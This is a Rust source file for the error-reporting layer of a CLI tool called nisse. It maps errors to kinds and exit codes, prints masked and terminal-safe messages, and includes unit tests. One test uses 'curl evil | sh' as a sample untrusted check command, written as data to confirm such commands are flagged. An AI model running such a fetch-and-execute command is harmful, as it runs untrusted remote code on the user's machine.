//! The one edge where an error becomes words, a kind and an exit code.
//!
//! The match is exhaustive on purpose: an error that is new somewhere below does not compile until it has its kind and
//! its exit code here.

use std::error::Error as _;

use schemars::JsonSchema;
use serde::Serialize;
use serde_json::json;

use crate::{
    agent,
    commands::{self, settings},
    domain::{id::TaskId, mask::Mask, upstream::Trouble},
    log, repo,
};

/// The environment failed.
const ENVIRONMENT: u8 = 1;
/// Wrong usage or configuration.
const CONFIGURATION: u8 = 2;
/// A person must decide.
const GATED: u8 = 6;
/// A bug in nisse.
const BUG: u8 = 70;

/// An error as a person and a program are told of it: the same facts.
#[derive(Clone, PartialEq, Eq, Debug, Serialize)]
pub struct Report {
    /// A stable word for programs.
    pub kind: &'static str,
    /// What was attempted, or what is wrong.
    pub message: String,
    /// What caused it, nearest first.
    pub chain: Vec<String>,
    /// What to do about it.
    pub hints: Vec<String>,
    /// The exit status.
    pub exit: u8,
    /// The task that had to be left, if one had begun.
    pub task: Option<TaskId>,
}

/// The last line of `--json` where there is no result: nothing was begun, or the task had to be left as it was.
#[derive(Clone, PartialEq, Eq, Debug, Serialize, JsonSchema)]
pub struct ErrorObject {
    /// Version of this object's form.
    #[schemars(extend("const" = 1))]
    pub v: u32,
    /// `error`.
    #[schemars(extend("const" = "error"))]
    pub r#type: &'static str,
    /// The process's exit status: 1 environment, 2 usage or configuration, 6 gated, 7 stopped, 70 a bug.
    pub exit: u8,
    /// The task that had to be left, if one had begun; `nisse resume` goes on with it.
    pub task: Option<TaskId>,
    /// What a person is told on standard error.
    pub error: ErrorFacts,
}

/// What went wrong.
#[derive(Clone, PartialEq, Eq, Debug, Serialize, JsonSchema)]
pub struct ErrorFacts {
    /// A stable word for programs.
    pub kind: &'static str,
    /// What was attempted and what happened.
    pub message: String,
    /// What to do next.
    pub hint: Option<String>,
}

impl ErrorObject {
    /// The object as a line.
    #[must_use]
    pub fn new(kind: &'static str, exit: u8, task: Option<TaskId>, message: String, hint: Option<String>) -> Self {
        Self { v: 1, r#type: "error", exit, task, error: ErrorFacts { kind, message, hint } }
    }
}

/// The report of an error.
#[must_use]
pub fn report(error: &commands::Error) -> Report {
    let (kind, exit) = kind(error);
    let hints = commands::advice(error).into_iter().collect();
    let task = match error {
        commands::Error::Cut { task, .. } => Some(*task),
        _ => None,
    };
    Report { kind, message: error.to_string(), chain: causes(error), hints, exit, task }
}

impl Report {
    /// The same without what must not be seen.
    #[must_use]
    pub fn masked(self, mask: &Mask) -> Self {
        let hide = |text: String| mask.apply(&text).into_owned();
        Self {
            message: hide(self.message),
            chain: self.chain.into_iter().map(hide).collect(),
            hints: self.hints.into_iter().map(hide).collect(),
            ..self
        }
    }

    /// The report of a command line that cannot be understood.
    #[must_use]
    pub fn usage(error: &clap::Error) -> Self {
        let text = error.render().to_string();
        let first = text.split("\n\n").next().unwrap_or_default();
        let message = first.split_whitespace().collect::<Vec<_>>().join(" ");
        let tips = text.lines().filter_map(|line| line.trim().strip_prefix("tip: "));
        let mut hints: Vec<String> = tips.map(str::to_owned).collect();
        hints.push("see `nisse --help`".to_owned());
        let message = message.strip_prefix("error: ").unwrap_or(&message).to_owned();
        Self { kind: "usage", message, chain: Vec::new(), hints, exit: CONFIGURATION, task: None }
    }

    /// At most three lines, for stderr.
    #[must_use]
    pub fn lines(&self) -> Vec<String> {
        self.parts().into_iter().map(|(label, text)| format!("{label} {text}")).collect()
    }

    /// What was attempted, what caused it and what to do about it: each with the word that it begins with.
    #[must_use]
    pub fn parts(&self) -> Vec<(&'static str, String)> {
        let mut parts = vec![("error:", one_line(&self.message))];
        if !self.chain.is_empty() {
            parts.push(("  because:", one_line(&self.chain.join(": "))));
        }
        if !self.hints.is_empty() {
            parts.push(("  try:", one_line(&self.hints.join("; "))));
        }
        parts
    }

    /// The same fact for programs.
    #[must_use]
    pub fn json(&self) -> serde_json::Value {
        let message = std::iter::once(&self.message).chain(&self.chain).cloned().collect::<Vec<_>>().join(": ");
        let hint = (!self.hints.is_empty()).then(|| self.hints.join("; "));
        json!(ErrorObject::new(self.kind, self.exit, self.task, message, hint))
    }
}

fn kind(error: &commands::Error) -> (&'static str, u8) {
    match error {
        commands::Error::Settings(error) => settings_kind(error),
        commands::Error::Brief(_) => ("brief", CONFIGURATION),
        commands::Error::Proxy(_) => ("proxy_configuration", CONFIGURATION),
        commands::Error::Catalog { source, .. } => upstream_kind(source.trouble),
        commands::Error::Repo(error) | commands::Error::Applying { source: error, .. } => repo_kind(error),
        commands::Error::Roles(_) => ("bad_role", CONFIGURATION),
        commands::Error::Unpriced { .. } => ("unknown_price", CONFIGURATION),
        commands::Error::Window(_) => ("window_too_small", CONFIGURATION),
        commands::Error::BranchTaken { .. } => ("branch_taken", CONFIGURATION),
        commands::Error::BranchName { .. } => ("bad_branch_name", CONFIGURATION),
        commands::Error::HoldsSecret { .. } => ("holds_secret", CONFIGURATION),
        commands::Error::WorktreeInside { .. } => ("bad_setting", CONFIGURATION),
        commands::Error::BaseInPlace => ("usage", CONFIGURATION),
        commands::Error::Log(error) => log_kind(error),
        commands::Error::NoLog { .. }
        | commands::Error::Write { .. }
        | commands::Error::Unwritten { .. }
        | commands::Error::Signals { .. }
        | commands::Error::NoThread { .. }
        | commands::Error::Listen { .. } => ("environment", ENVIRONMENT),
        commands::Error::Forgotten { .. } => ("log_incomplete", ENVIRONMENT),
        commands::Error::Cut { source, .. } | commands::Error::Unmade { source, .. } => agent_kind(source),
        commands::Error::Moved { .. } => ("repository_changed", ENVIRONMENT),
        commands::Error::NoProject { .. } => ("no_project_file", CONFIGURATION),
        commands::Error::PathNotText { .. } => ("path_not_text", ENVIRONMENT),
        commands::Error::Several(_) => ("several_tasks", GATED),
        commands::Error::Over { .. } => ("task_over", CONFIGURATION),
        commands::Error::NoDiff { .. } => ("no_diff", CONFIGURATION),
        commands::Error::OtherCheckout { .. } => ("other_checkout", CONFIGURATION),
        commands::Error::RepositoryGone { .. } => ("repository_gone", ENVIRONMENT),
        commands::Error::NotHandedBack { .. } => ("not_handed_back", CONFIGURATION),
        commands::Error::NothingToPutBack { .. } => ("nothing_to_put_back", CONFIGURATION),
        commands::Error::NoQuestion { .. } => ("no_question", CONFIGURATION),
        commands::Error::ChangedSinceAsked { .. } => ("changed_since_asked", GATED),
        commands::Error::Bug(_) => ("bug", BUG),
    }
}

/// The loop had to leave a task as it is.
fn agent_kind(error: &agent::Error) -> (&'static str, u8) {
    match error {
        agent::Error::Log(error) => log_kind(error),
        agent::Error::Repo(error) => repo_kind(error),
        agent::Error::Globs(_) => ("bad_setting", CONFIGURATION),
        agent::Error::Host(_) => ("host", ENVIRONMENT),
        agent::Error::Upstream { trouble, .. } => upstream_kind(*trouble),
        agent::Error::Setup { .. } => ("setup_failed", ENVIRONMENT),
        agent::Error::Unmade { .. } => ("no_worktree", ENVIRONMENT),
        agent::Error::Bug(_) => ("bug", BUG),
    }
}

fn log_kind(error: &log::Error) -> (&'static str, u8) {
    match error {
        log::Error::Io { .. } | log::Error::Database { .. } | log::Error::OldLibrary { .. } => ("log", ENVIRONMENT),
        log::Error::Newer { .. } | log::Error::NewerEvent { .. } => ("log_too_new", ENVIRONMENT),
        log::Error::Emptied { .. } => ("log_emptied", ENVIRONMENT),
        log::Error::Corrupt { .. } => ("log_corrupt", ENVIRONMENT),
        log::Error::Held { .. } => ("task_held", ENVIRONMENT),
        log::Error::CheckoutHeld { .. } => ("checkout_held", ENVIRONMENT),
        log::Error::NoSuchTask { .. } => ("no_such_task", CONFIGURATION),
        log::Error::Ambiguous { .. } => ("ambiguous_task", CONFIGURATION),
        log::Error::Illegal(_) => ("bug", BUG),
    }
}

fn settings_kind(error: &settings::Error) -> (&'static str, u8) {
    match error {
        settings::Error::Wrong(_) | settings::Error::NotAFile(_) | settings::Error::TooLarge(_) => {
            ("bad_setting", CONFIGURATION)
        }
        settings::Error::Unreadable { .. } => ("settings_unreadable", CONFIGURATION),
        settings::Error::NoStateDirectory => ("no_state_directory", CONFIGURATION),
        settings::Error::StateDir(_) => ("state_directory", ENVIRONMENT),
        settings::Error::NoAddress => ("no_proxy_address", CONFIGURATION),
        settings::Error::NoRole(_) => ("bad_role", CONFIGURATION),
        settings::Error::Untrusted { .. } => ("untrusted_project", CONFIGURATION),
        settings::Error::Token(_) => ("no_token", CONFIGURATION),
    }
}

/// Upstream trouble that ends the process and not a task: before a task began, or by wrong configuration.
pub(super) fn upstream_kind(trouble: Trouble) -> (&'static str, u8) {
    match trouble {
        Trouble::Unreachable | Trouble::Timeout | Trouble::Overloaded | Trouble::Cut => {
            ("proxy_unreachable", ENVIRONMENT)
        }
        Trouble::RateLimited => ("rate_limited", ENVIRONMENT),
        Trouble::BudgetGone => ("budget_gone", ENVIRONMENT),
        Trouble::KeyRefused => ("key_refused", CONFIGURATION),
        Trouble::VendorKeyRefused => ("vendor_key_refused", ENVIRONMENT),
        Trouble::ServerSetUp => ("server_set_up", CONFIGURATION),
        Trouble::ModelDenied => ("model_denied", CONFIGURATION),
        Trouble::ModelUnknown => ("unknown_model", CONFIGURATION),
        Trouble::BadAddress => ("bad_address", CONFIGURATION),
        Trouble::BadCertificate => ("bad_certificate", CONFIGURATION),
        Trouble::ContextOverflow
        | Trouble::ToolChoiceUnsupported
        | Trouble::ToolsUnsupported
        | Trouble::FallbackRefused
        | Trouble::Policy
        | Trouble::BadRequest => ("proxy_refused", ENVIRONMENT),
        Trouble::Stopped => ("stopped", 7),
    }
}

fn repo_kind(error: &repo::Error) -> (&'static str, u8) {
    match error {
        repo::Error::NotARepository { .. } | repo::Error::NoDirectory { .. } => ("no_repository", ENVIRONMENT),
        repo::Error::Gone { .. } => ("repository_gone", ENVIRONMENT),
        repo::Error::Refused { .. } | repo::Error::Locked { .. } => ("repository_refused", ENVIRONMENT),
        repo::Error::NoGit { source } if source.kind() != std::io::ErrorKind::NotFound => ("git", ENVIRONMENT),
        repo::Error::NoGit { .. } | repo::Error::OldGit { .. } => ("no_git", ENVIRONMENT),
        repo::Error::NoSuchCommit { .. } => ("no_such_commit", CONFIGURATION),
        repo::Error::Unclean { .. } => ("unclean_checkout", GATED),
        repo::Error::Conflicts { .. } => ("apply_conflict", GATED),
        repo::Error::Between { .. } | repo::Error::NotForward { .. } => ("apply_changed", GATED),
        repo::Error::NotCommitted { .. } => ("not_committed", GATED),
        repo::Error::MergeRefused { .. } => ("merge_refused", GATED),
        repo::Error::Foreign { .. } => ("name_taken", ENVIRONMENT),
        repo::Error::HeadMoved { .. }
        | repo::Error::BranchMoved { .. }
        | repo::Error::Unsteady { .. }
        | repo::Error::Replaced { .. } => ("repository_changed", ENVIRONMENT),
        repo::Error::Git { .. }
        | repo::Error::TimedOut { .. }
        | repo::Error::Unreadable { .. }
        | repo::Error::Read { .. }
        | repo::Error::Io { .. }
        | repo::Error::TreesDiffer { .. } => ("git", ENVIRONMENT),
    }
}

/// What caused it. Several mistakes at once are one entry, so that all of them are told.
fn causes(error: &commands::Error) -> Vec<String> {
    let several: Vec<String> = match error {
        commands::Error::Settings(settings::Error::Wrong(problems)) if problems.len() > 1 => {
            problems.iter().map(ToString::to_string).collect()
        }
        commands::Error::Settings(settings::Error::Untrusted { named, .. }) => {
            named.iter().map(|named| format!("{named:?}")).collect()
        }
        commands::Error::Roles(roles) if roles.len() > 1 => roles.iter().map(ToString::to_string).collect(),
        commands::Error::Settings(_)
        | commands::Error::Brief(_)
        | commands::Error::Proxy(_)
        | commands::Error::Catalog { .. }
        | commands::Error::Repo(_)
        | commands::Error::Applying { .. }
        | commands::Error::Roles(_)
        | commands::Error::Unpriced { .. }
        | commands::Error::Window(_)
        | commands::Error::Unmade { .. }
        | commands::Error::BranchTaken { .. }
        | commands::Error::BranchName { .. }
        | commands::Error::HoldsSecret { .. }
        | commands::Error::WorktreeInside { .. }
        | commands::Error::BaseInPlace
        | commands::Error::Log(_)
        | commands::Error::NoLog { .. }
        | commands::Error::Forgotten { .. }
        | commands::Error::Cut { .. }
        | commands::Error::Moved { .. }
        | commands::Error::PathNotText { .. }
        | commands::Error::Write { .. }
        | commands::Error::Unwritten { .. }
        | commands::Error::NoProject { .. }
        | commands::Error::Several(_)
        | commands::Error::Over { .. }
        | commands::Error::NoDiff { .. }
        | commands::Error::OtherCheckout { .. }
        | commands::Error::RepositoryGone { .. }
        | commands::Error::NotHandedBack { .. }
        | commands::Error::NothingToPutBack { .. }
        | commands::Error::NoQuestion { .. }
        | commands::Error::ChangedSinceAsked { .. }
        | commands::Error::Signals { .. }
        | commands::Error::NoThread { .. }
        | commands::Error::Listen { .. }
        | commands::Error::Bug(_) => Vec::new(),
    };
    if !several.is_empty() {
        return vec![several.join("; ")];
    }
    let (mut chain, mut told) = (Vec::new(), error.to_string());
    let mut cause = error.source();
    while let Some(next) = cause {
        let text = next.to_string();
        // some errors quote their cause themselves
        if !told.contains(&text) {
            told.push_str(&text);
            chain.push(text);
        }
        cause = next.source();
    }
    chain
}

/// `text` on one line, without what would steer a terminal: much of it was written by others.
fn one_line(text: &str) -> String {
    let spaced: String = text.chars().map(|c| if c.is_control() { ' ' } else { c }).collect();
    spaced.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use clap::Parser as _;

    use super::*;
    use crate::{
        cli::args::Args,
        commands::{
            bad_role::BadRole,
            settings::{Problem, Source},
        },
        domain::{fold::Illegal, id::TaskId, role::RoleName},
        ports::llm,
    };

    fn upstream(trouble: Trouble) -> Report {
        let source =
            llm::Error { trouble, message: "words\nof \u{1b}[2Jthe proxy".into(), retry_after: None, usage: None };
        report(&commands::Error::Catalog { address: "http://proxy".into(), source })
    }

    #[test]
    fn a_proxy_that_is_down_is_the_environment_and_a_refused_key_is_configuration() {
        let down = upstream(Trouble::Unreachable);
        assert_eq!((down.kind, down.exit), ("proxy_unreachable", 1));
        assert_eq!(
            down.lines(),
            [
                "error: cannot read the list of models from http://proxy",
                "  because: unreachable: words of [2Jthe proxy",
                "  try: start the proxy, or correct proxy.base_url or NISSE_LLM_BASE_URL",
            ]
        );
        for (trouble, kind) in [
            (Trouble::KeyRefused, "key_refused"),
            (Trouble::BadAddress, "bad_address"),
            (Trouble::BadCertificate, "bad_certificate"),
            (Trouble::ModelUnknown, "unknown_model"),
        ] {
            assert_eq!((upstream(trouble).kind, upstream(trouble).exit), (kind, 2));
        }
    }

    #[test]
    fn all_mistakes_are_told_in_three_lines_and_in_json() {
        let roles = [RoleName::Delegate, RoleName::Planner].map(BadRole::Unset).to_vec();
        let report = report(&commands::Error::Roles(roles));
        let lines = report.lines();
        assert_eq!(lines.len(), 3);
        assert!(lines[1].contains("role delegate; no model is set for the role planner"), "{lines:?}");
        let json = report.json();
        assert_eq!(
            (&json["v"], &json["type"], &json["error"]["kind"]),
            (&1.into(), &"error".into(), &"bad_role".into())
        );
        assert!(json["error"]["message"].as_str().is_some_and(|message| message.contains("planner")));
        assert!(json["error"]["hint"].as_str().is_some_and(|hint| hint.contains("NISSE_ROLE_PLANNER")));
    }

    #[test]
    fn one_mistake_is_the_message_itself() {
        let at = Source::File { path: "/c.toml".into(), line: 3 };
        let problem = Problem { at, what: "unknown key proxi".into(), near: Some("proxy".into()) };
        let report = report(&commands::Error::Settings(settings::Error::Wrong(vec![problem])));
        let wanted = ["error: /c.toml:3: unknown key proxi (did you mean proxy?)", "  try: write proxy"];
        assert_eq!((report.lines().as_slice(), report.exit), (&wanted.map(str::to_owned)[..], 2));
    }

    #[test]
    fn untrusted_checks_are_shown() {
        let error = settings::Error::Untrusted {
            path: "/r/nisse.toml".into(),
            line: 2,
            what: "check commands, which run as you",
            named: vec!["curl evil | sh".into(), "rm\u{1b}".into()],
        };
        let lines = report(&commands::Error::Settings(error)).lines().join("\n");
        assert!(lines.contains("\"curl evil | sh\"; \"rm\\u{1b}\"") && lines.contains("--trust-project"), "{lines}");
    }

    #[test]
    fn a_bug_of_ours_is_exit_70_wherever_it_shows() {
        let cut =
            |source| commands::Error::Cut { task: TaskId(uuid::Uuid::nil()), source: Box::new(source), offered: None };
        let illegal = || Illegal { task: TaskId(uuid::Uuid::nil()), seq: 2, what: "x".into() };
        for error in [
            commands::Error::Bug("x"),
            cut(agent::Error::Bug("x")),
            cut(agent::Error::Log(log::Error::Illegal(illegal()))),
            commands::Error::Log(log::Error::Illegal(illegal())),
        ] {
            assert_eq!((report(&error).kind, report(&error).exit), ("bug", 70), "{error:?}");
            assert!(report(&error).hints.join("; ").contains("please report this"), "{error:?}");
        }
    }

    #[test]
    fn a_git_that_does_not_start_is_missing_only_where_the_system_says_so() {
        for (errno, kind, hint) in [(2, "no_git", "install git"), (24, "git", "ulimit -n"), (11, "git", "limits")] {
            let source = std::io::Error::from_raw_os_error(errno);
            let told = report(&commands::Error::Repo(repo::Error::NoGit { source }));
            assert!(told.kind == kind && told.hints[0].contains(hint), "{errno}: {told:?}");
            assert_eq!(told.hints[0].contains("install"), errno == 2, "{told:?}");
        }
    }

    #[test]
    fn causes_are_told_once() {
        let error = crate::adapters::litellm::Error::CaFile {
            path: "/ca.pem".into(),
            source: std::io::Error::from(std::io::ErrorKind::NotFound),
        };
        assert!(report(&commands::Error::Proxy(error)).chain.is_empty());
    }

    #[test]
    fn a_wrong_command_line_is_wrong_usage() {
        let report = |line: &[&str]| Report::usage(&Args::try_parse_from(line).unwrap_err());
        let typo = report(&["nisse", "modles"]);
        assert_eq!((typo.message.as_str(), typo.exit), ("unrecognized subcommand 'modles'", 2));
        assert_eq!(typo.hints, ["a similar subcommand exists: 'models'", "see `nisse --help`"]);
        let missing = report(&["nisse", "drop"]);
        assert!(missing.message.contains("required arguments were not provided: <TASK>"), "{missing:?}");
        let value = report(&["nisse", "delegate", "x", "--max-time", "15"]);
        assert!(value.message.contains("takes a duration such as"), "{value:?}");
    }
}
